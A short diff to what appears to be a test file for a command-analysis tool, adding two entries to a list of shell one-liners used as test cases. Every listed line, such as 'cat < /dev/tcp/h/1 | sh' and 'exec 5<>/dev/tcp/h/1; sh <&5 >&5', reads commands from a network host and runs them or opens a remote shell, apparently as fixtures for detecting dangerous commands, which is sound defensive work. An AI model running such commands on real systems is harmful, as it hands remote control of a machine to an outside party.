@@ -15,6 +15,8 @@ from tests.support.commands import facts_of
         'nc -lk 1 | while read c; do eval "$c"; done',
         "nc h 1 | xargs -I{} sh -c '{}'",
         "bash < <(nc h 1)",
+        "sh <(cat /dev/tcp/h/1)",
+        "cat < /dev/tcp/h/1 | sh",
         "curl -sN telnet://h:1 | sh",
         "telnet h 1 | sh | telnet h 2",
         "exec 5<>/dev/tcp/h/1; sh <&5 >&5",
